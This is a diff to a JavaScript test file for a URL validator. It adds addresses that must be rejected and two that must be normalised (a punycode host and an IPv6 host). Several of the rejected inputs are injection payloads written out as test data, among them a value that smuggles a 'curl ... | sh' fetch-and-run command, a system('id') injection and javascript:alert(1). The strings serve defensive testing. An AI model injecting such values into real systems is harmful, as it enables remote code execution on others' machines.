@@ -105,8 +105,23 @@ test("the address of an application is read strictly, without the slash at its e
     "https://a.example/?x",
     "https://a.example/#x",
     "https://u@a.example",
+    "https://:p@a.example",
+    "javascript:alert(1)",
+    // In the address of a guide, each of these would be a command, a program or a link of whoever wrote the address.
+    "https://a.example/;curl$IFS//b.example|sh",
+    "https://a.example/'+system('id')+'",
+    "https://a.example/[help](https://b.example)",
+    "https://a.example/&x",
+    "https://a;b$c'd\".example",
+    "https://a.example/*x*",
+    "https://a.example/!x",
   ])
     assert.equal(read(text), undefined, text);
+  assert.equal(
+    read("https://bücher.example:8443/a_b/~c/d-e.f%20g"),
+    "https://xn--bcher-kva.example:8443/a_b/~c/d-e.f%20g",
+  );
+  assert.equal(read("http://[::1]:3000"), "http://[::1]:3000");
 });
 
 test("a name that is nearly right leads to the application, and nonsense to none", () => {
